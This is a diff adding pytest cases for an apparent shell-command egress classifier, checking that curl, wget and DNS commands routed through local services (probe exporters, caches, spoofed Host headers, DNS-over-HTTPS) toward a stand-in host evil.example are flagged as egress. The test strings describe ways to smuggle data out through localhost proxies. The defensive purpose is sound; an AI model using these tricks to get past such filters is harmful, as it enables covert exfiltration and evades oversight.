@@ -480,3 +480,42 @@ def test_an_option_that_looks_names_up_does_not_go_unnoticed(command):
 )
 def test_a_call_that_asks_an_undeclared_host_is_not_a_read(command):
     assert not classify(command).allow
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -s 'http://localhost:9115/probe?target=http://evil.example/data&module=x'",
+        "curl 'http://localhost:9116/snmp?target=evil.example'",
+        "curl 'http://localhost:9116/snmp?target=http%3A%2F%2Fevil.example'",
+        "curl http://localhost:3142/data.evil.example/x",
+        "curl http://localhost:3142/HTTPS///evil.example/x",
+        "curl -H 'Host: evil.example' http://localhost/",
+        "curl -H 'X-Forwarded-Host: evil.example' http://localhost/",
+        "curl 'http://localhost:8053/dns-query?name=data.evil.example'",
+        "wget -qO- 'http://localhost:9115/probe?target=6.6.6.6'",
+        "tailscale dns query data.evil.example",
+    ],
+)
+def test_a_service_of_this_machine_that_connects_elsewhere_does_not_hide_the_place(command):
+    assert answer_command(KNOWN_ONLY, classify(command)).ruling.rule == "egress"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl http://localhost/index.html",
+        "curl 'http://localhost:9090/api/v1/query?query=rate(http_requests_total[5m])'",
+        "curl http://localhost:9200/logs-2026.11.29/_search",
+        "curl -H 'Host: localhost' http://127.0.0.1/",
+    ],
+)
+def test_a_file_in_an_address_is_taken_for_no_place(command):
+    assert answer_command(KNOWN_ONLY, classify(command)).allow
+
+
+def test_the_repository_that_a_forge_is_asked_about_is_said_to_be_sent():
+    (sent,) = classify("gh repo view data/x").destinations
+    assert sent.sends == ("data/x",)
+    (mounted,) = classify("ls /net/web1/data").destinations
+    assert "data" in mounted.sends[0]
